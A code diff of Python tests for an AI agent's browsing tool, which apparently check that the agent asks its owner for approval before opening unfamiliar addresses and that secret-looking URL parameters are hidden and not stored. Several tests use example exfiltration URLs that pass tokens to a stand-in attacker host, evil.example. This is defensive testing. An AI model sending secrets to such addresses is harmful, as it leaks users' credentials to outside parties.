@@ -13,12 +13,13 @@ from agents.gateway import call as gateway_call
 from agents.llm.messages import ToolRequest
 from agents.models import Run, Step
 from agents.runs import handles, steps
-from agents.runs.context import Content, Context, Parked
+from agents.runs.context import Content, Context, ParkedAtAsk
 from agents.runs.handles import Handles, HandleUnknown
 from devices import protocol as p
 from devices.grants.grants import set_grant
 from devices.models import Ask, Device
 from devices.web.hosts import HostInvalid
+from tests.agents.background import SOME_MODELS
 from tests.client import Client, allow, browser_tools, make_page
 from tests.penny import Penny
 from tests.stand_ins.articles import GRIND, WATER
@@ -138,7 +139,7 @@ def context(transactional_db: None, redis: str) -> Context:
     Device.objects.create(label="Desk", kind="browser", tools=["browse_url"], connection="x", seen_at=now)
     run = Run.objects.create(kind=Run.Kind.THINKING, state=Run.State.RUNNING, attempt=1)
     handles = Handles([WORDS], urls={"p1.l1": "https://coffee.example/grind"})
-    return Context(run, "thinking", handles, WORDS, True, get_values(), _ignore_text, lambda: None)
+    return Context(run, "thinking", handles, WORDS, SOME_MODELS, get_values(), _ignore_text, lambda: None)
 
 
 async def _ignore_text(_: str) -> None: ...
@@ -150,7 +151,7 @@ def call(context: Context, url: str) -> Content:
 
 @pytest.mark.parametrize("url", STRANGE)
 def test_a_strange_address_waits_for_an_approval_that_shows_all_of_it(context: Context, url: str) -> None:
-    with pytest.raises(Parked):
+    with pytest.raises(ParkedAtAsk):
         call(context, url)
     ask = Ask.objects.get()
     assert (ask.kind, ask.run_id) == ("approval", context.run.pk)
@@ -159,7 +160,7 @@ def test_a_strange_address_waits_for_an_approval_that_shows_all_of_it(context: C
 
 @pytest.mark.parametrize("url", [URL, "p1.l1"])
 def test_what_was_typed_and_a_handle_of_the_run_wait_for_the_grant_alone(context: Context, url: str) -> None:
-    with pytest.raises(Parked):
+    with pytest.raises(ParkedAtAsk):
         call(context, url)
     assert [(ask.kind, ask.host) for ask in Ask.objects.all()] == [("grant", "coffee.example")]
 
@@ -168,7 +169,7 @@ def test_with_the_check_off_the_words_in_the_address_would_leave_unseen(
     context: Context, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setattr(Handles, "is_known", lambda self, url: True)
-    with pytest.raises(Parked):
+    with pytest.raises(ParkedAtAsk):
         call(context, STRANGE[0])
     assert not Ask.objects.filter(kind="approval").exists()
 
@@ -180,14 +181,14 @@ def test_an_address_that_cannot_be_shown_in_full_is_refused(context: Context) ->
 
 def test_what_looks_like_a_secret_is_not_shown_and_each_secret_is_asked_about_anew(context: Context) -> None:
     for secret in ("hunter2hunter2", "hunter3hunter3"):
-        with pytest.raises(Parked):
+        with pytest.raises(ParkedAtAsk):
             call(context, f"https://evil.example/a/b?lang=en&token={secret}&page=2")
     question = "Open an address that you did not write? https://evil.example/a/b?lang=en&page=2"
     assert [ask.text for ask in Ask.objects.all()] == [
         f"{question} (21 characters of it look like a secret and are not shown.)"
     ] * 2
     Ask.objects.filter(pk=Ask.objects.earliest("created_at").pk).update(state="allowed")
-    with pytest.raises(Parked) as parked:
+    with pytest.raises(ParkedAtAsk) as parked:
         call(context, "https://evil.example/a/b?lang=en&token=hunter3hunter3&page=2")
     assert parked.value.ask.state == "open"
 
@@ -196,14 +197,14 @@ def test_a_step_keeps_no_secret_of_an_address_and_without_that_rule_it_does(
     context: Context, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     url = "https://evil.example/?lang=en&token=hunter2"
-    with pytest.raises(Parked):
+    with pytest.raises(ParkedAtAsk):
         call(context, url)
     assert [json.loads(step.request["arguments"]) for step in Step.objects.all()] == [
         {"url": "https://evil.example/?lang=en"}
     ]
     for module in (gateway_call, steps):
         monkeypatch.setattr(module, "json_to_store", lambda value: value)
-    with pytest.raises(Parked):
+    with pytest.raises(ParkedAtAsk):
         call(context, url)
     assert "hunter2" in Step.objects.latest("id").request["arguments"]
 
@@ -218,7 +219,7 @@ def test_a_site_that_the_owner_blocked_is_not_asked_about(context: Context) -> N
     ("state", "answer"), [("blocked", "not_granted"), ("dismissed", "not_granted"), ("expired", "no_answer")]
 )
 def test_a_run_does_not_ask_again_for_what_was_answered(context: Context, state: str, answer: str) -> None:
-    with pytest.raises(Parked):
+    with pytest.raises(ParkedAtAsk):
         call(context, STRANGE[0])
     Ask.objects.update(state=state)
     assert call(context, STRANGE[0]) == {"error": answer}
@@ -231,7 +232,7 @@ def test_a_handle_of_another_run_is_refused_without_a_question(context: Context)
         "thinking",
         Handles([WORDS]),
         WORDS,
-        True,
+        SOME_MODELS,
         get_values(),
         _ignore_text,
         lambda: None,
